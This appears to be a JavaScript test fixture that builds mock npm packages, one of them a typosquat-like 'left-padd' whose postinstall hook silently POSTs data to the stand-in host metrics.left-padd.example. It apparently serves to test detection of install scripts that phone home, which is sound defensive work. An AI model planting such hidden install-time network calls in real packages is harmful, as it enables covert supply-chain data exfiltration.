// The cast of the picture. `.example` names resolve nowhere, and the script only ever runs in the sealed box.

const SETUP = `
const https = require('node:https')
const body = JSON.stringify({ event: 'install', notes: 'n'.repeat(1200) })
const request = https.request('https://metrics.left-padd.example/i', { method: 'POST' })
request.on('error', () => {})
request.end(body)
`

const LEFT_PADD = { name: 'left-padd', version: '1.3.1', scripts: { postinstall: 'node setup.js' } }

/** One that does nothing, and one that brings a dependency which does. */
export function castOf(makePackage) {
  return [
    makePackage({ name: 'tidy-names', version: '1.2.0' }),
    makePackage({ name: 'colour-kit', version: '2.0.4', dependencies: { 'left-padd': '1.3.1' } }),
    makePackage(LEFT_PADD, { 'setup.js': SETUP }),
  ]
}

/** One whose script builds what it needs, and the one that phones home. */
export function scriptedCastOf(makePackage) {
  const build = "require('node:fs').writeFileSync('built.node', '')"
  return [
    makePackage(
      { name: 'fast-hash', version: '4.1.0', scripts: { install: 'node build.js' } },
      { 'build.js': build },
    ),
    makePackage(LEFT_PADD, { 'setup.js': SETUP }),
  ]
}
